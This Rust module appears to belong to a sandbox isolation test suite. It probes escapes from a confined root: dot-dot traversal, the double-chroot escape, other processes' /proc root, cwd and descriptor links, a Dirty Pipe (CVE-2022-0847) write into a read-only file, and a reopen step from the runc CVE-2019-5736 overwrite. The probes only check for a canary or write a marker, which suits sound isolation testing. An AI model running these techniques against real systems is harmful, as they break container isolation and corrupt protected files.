//! Ways out of the root: the classic chroot escape, roots and descriptors of other processes, the launcher's program, the page cache.

use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use crate::calls::in_child;
use crate::{Facts, errno, say};

pub(crate) fn all(facts: &Facts<'_>) {
    above_the_root(facts);
    out_of_chroot(facts);
    roots_of_others(facts);
    programs_of_others();
    dirty_pipe();
}

/// Whether the file that the test planted outside can be read at `path`.
fn is_canary(path: &Path, facts: &Facts<'_>) -> bool {
    // Reading a pipe would wait for ever. The same path exists inside with other content: a wrong turn is told from a way out.
    let small = std::fs::metadata(path).is_ok_and(|found| found.is_file() && found.len() < 4096);
    small && std::fs::read_to_string(path).is_ok_and(|text| text.trim() == facts.get("canary-text"))
}

fn above_the_root(facts: &Facts<'_>) {
    let canary = facts.get("canary");
    let up = format!("/{}{canary}", "../".repeat(20));
    let found = [
        canary.to_owned(),
        up,
        format!("/proc/self/root/../..{canary}"),
        format!("/proc/self/cwd/../../..{canary}"),
    ];
    let seen = found.iter().any(|path| is_canary(Path::new(path), facts));
    say("above-the-root", seen, "by dots, by /proc/self/root");
}

/// A directory that was left open while the root is changed below it leads up.
fn out_of_chroot(facts: &Facts<'_>) {
    std::fs::create_dir_all("/tmp/walls-jail").unwrap();
    let code = in_child(|| {
        let jail = c"/tmp/walls-jail".as_ptr();
        if unsafe { libc::chroot(jail) } != 0 {
            return 100 + errno().0;
        }
        for _ in 0..64 {
            unsafe { libc::chdir(c"..".as_ptr()) };
        }
        if unsafe { libc::chroot(c".".as_ptr()) } != 0 {
            return 100 + errno().0;
        }
        i32::from(is_canary(Path::new(facts.get("canary")), facts))
    });
    say("out-of-chroot", code == 1, &format!("code {code}"));
}

fn pids() -> Vec<u32> {
    let entries = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

/// Through `/proc/<pid>/root`, `cwd` and `fd` of every process that can be seen.
fn roots_of_others(facts: &Facts<'_>) {
    let canary = facts.get("canary");
    let mut found = Vec::new();
    for pid in pids() {
        for link in ["root", "cwd"] {
            if is_canary(Path::new(&format!("/proc/{pid}/{link}{canary}")), facts) {
                found.push(format!("/proc/{pid}/{link}"));
            }
        }
        let names = [canary.trim_start_matches('/'), canary.trim_start_matches("/tmp/"), "file"];
        for entry in std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            // A step's own descriptor can only be one that it was given.
            let below = names.iter().any(|name| is_canary(&entry.path().join(name), facts));
            if below || is_canary(&entry.path(), facts) {
                found.push(entry.path().display().to_string());
            }
        }
    }
    say("roots-of-others", !found.is_empty(), &format!("{} ways", found.len()));
}

/// A program that is not in this root is the launcher's or the host's, and `/proc/<pid>/exe` would open it.
fn programs_of_others() {
    let mut foreign = Vec::new();
    for pid in pids() {
        let link = format!("/proc/{pid}/exe");
        let (Ok(path), Ok(actual)) = (std::fs::read_link(&link), std::fs::metadata(&link)) else {
            continue;
        };
        let here = std::fs::metadata(&path)
            .is_ok_and(|here| (here.dev(), here.ino()) == (actual.dev(), actual.ino()));
        if !here {
            foreign.push(format!("{} is {}", link, path.display()));
        }
    }
    say("programs-of-others", !foreign.is_empty(), &format!("{} foreign", foreign.len()));
}

/// CVE-2022-0847: pages that a pipe got from a file are written through it.
fn dirty_pipe() {
    let path = "/walls/read-only";
    let Ok(mut file) = File::open(path) else { return say("dirty-pipe", false, "no file") };
    let mut ends = [0; 2];
    assert_eq!(unsafe { libc::pipe(ends.as_mut_ptr()) }, 0);
    let size = unsafe { libc::fcntl(ends[1], libc::F_GETPIPE_SZ) };
    let page = vec![0_u8; size.max(4096) as usize];
    unsafe {
        // Every page of the pipe has been written once, which sets the flag that is to be leaked.
        libc::write(ends[1], page.as_ptr().cast(), page.len());
        let mut drained = page.clone();
        libc::read(ends[0], drained.as_mut_ptr().cast(), drained.len());
        let mut offset = 0;
        libc::splice(file.as_raw_fd(), &raw mut offset, ends[1], std::ptr::null_mut(), 1, 0);
        libc::write(ends[1], c"BREACHED".as_ptr().cast(), 8);
    }
    let mut text = String::new();
    file.read_to_string(&mut text).ok();
    say(
        "dirty-pipe",
        text.contains("BREACHED"),
        "a page of a file that was only opened for reading",
    );
    let written = OpenOptions::new()
        .write(true)
        .open("/etc/resolv.conf")
        .and_then(|mut file| file.write_all(b""));
    say("read-only-bind", written.is_ok(), "/etc/resolv.conf opened for writing");
}

/// The second half of CVE-2019-5736: a descriptor of the starter's program, kept over an exec that ends the starter, opened for writing.
pub(crate) fn reopen(number: &str, tries: u32) {
    let path = format!("/proc/self/fd/{number}");
    let program = std::fs::read_link(&path).unwrap_or_default();
    let mut answer = String::new();
    for _ in 0..tries {
        match OpenOptions::new().write(true).open(&path) {
            Ok(_) => {
                return say("starter", true, &format!("{} opened for writing", program.display()));
            }
            Err(error) => answer = error.to_string(),
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    say("starter", false, &format!("{}: {answer}", program.display()));
}
